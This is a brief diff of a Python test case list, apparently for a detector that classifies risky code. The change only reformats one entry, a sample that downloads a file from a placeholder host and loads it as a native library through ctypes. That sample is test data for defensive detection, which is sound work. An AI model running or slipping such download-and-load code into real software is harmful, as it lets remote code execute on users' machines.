@@ -19,8 +19,10 @@ CASES: list[tuple[str, Kind, str | None]] = [
         "https://a.invalid/x",
     ),
     (
-        "import ctypes, urllib.request\nurllib.request.urlretrieve('https://a.invalid/x', '/x/y.dll')\n"
-        "ctypes.CDLL('/x/y.dll')",
+        (
+            "import ctypes, urllib.request\nurllib.request.urlretrieve('https://a.invalid/x', '/x/y.dll')\n"
+            "ctypes.CDLL('/x/y.dll')"
+        ),
         Kind.PROCESS_SPAWN,
         "/x/y.dll",
     ),
